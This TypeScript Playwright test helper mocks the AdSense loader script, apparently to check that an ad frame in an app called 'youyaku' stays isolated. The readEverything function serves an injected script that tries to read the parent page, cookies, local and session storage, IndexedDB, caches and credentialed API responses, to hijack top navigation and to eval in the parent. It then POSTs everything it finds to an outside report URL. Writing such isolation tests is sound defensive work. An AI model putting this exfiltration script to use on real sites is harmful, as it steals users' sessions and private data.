import type { Route } from '@playwright/test';

const loaderPath = '/pagead/js/adsbygoogle.js';

/** Answers as AdSense does: a script that fills the place, and a picture for it. */
export async function fillWithAd(route: Route): Promise<void> {
  await answer(
    route,
    `const place = document.querySelector('ins');
     place.textContent = 'stub';
     const picture = new Image();
     picture.src = 'https://ad.doubleclick.net/picture.png';
     place.append(picture);
     new Image().src = 'https://unlisted.example/pixel.png';
     fetch('https://unlisted.example/report').catch(() => {});
     place.dataset.adStatus = 'filled';`,
  );
}

/** Tries to read whatever it could tell others: pages, addresses, cookies, storage, responses of the API. */
export function readEverything(
  apiUrl: string,
  report: (found: Record<string, string>) => void,
): (route: Route) => Promise<void> {
  const script = `(async () => {
    const tries = {
      parentPage: () => parent.document.documentElement.outerHTML,
      topPage: () => top.document.body.innerText,
      parentAddress: () => parent.location.href,
      topAddress: () => top.location.href,
      opener: () => opener.document.body.innerText,
      siblings: () => Array.from(parent.frames, (frame) => frame.document.body.innerText).join(''),
      cookie: () => document.cookie,
      localStorage: () => JSON.stringify(localStorage),
      parentStorage: () => JSON.stringify(parent.localStorage),
      sessionStorage: () => JSON.stringify(sessionStorage),
      databases: async () => JSON.stringify(await indexedDB.databases()),
      caches: async () => (await caches.keys()).join(''),
      workers: async () => String((await navigator.serviceWorker.getRegistrations()).length),
      api: async () => (await fetch('${apiUrl}/v1/summaries', { credentials: 'include' })).text(),
      pageAgain: async () => (await fetch(document.referrer, { credentials: 'include' })).text(),
      pathOfReferrer: () => document.referrer.replace(/^https?:[/][/][^/]*[/]?/, ''),
      messages: () => new Promise((settle) => {
        const heard = [];
        addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
        for (const word of ['youyaku-ad-ready', 'youyaku-ad-filled', { type: 'state' }]) parent.postMessage(word, '*');
        setTimeout(() => settle(heard.filter((each) => each !== '"youyaku-ad-allowed"').join('')), 500);
      }),
      leave: () => { top.location.href = 'https://pagead2.googlesyndication.com/taken'; return ''; },
      script: () => { parent.eval('1'); return 'ran'; },
    };
    const found = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try { found[name] = String((await attempt()) ?? ''); } catch { found[name] = ''; }
    }
    await fetch('https://pagead2.googlesyndication.com/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
  })();`;
  return async (route) => {
    const { pathname } = new URL(route.request().url());
    if (pathname === '/report') report(JSON.parse(route.request().postData() ?? '{}') as Record<string, string>);
    await answer(route, script);
  };
}

async function answer(route: Route, script: string): Promise<void> {
  const isLoader = new URL(route.request().url()).pathname === loaderPath;
  await route.fulfill(
    isLoader ? { contentType: 'text/javascript', body: script } : { status: 200, contentType: 'text/plain', body: '' },
  );
}
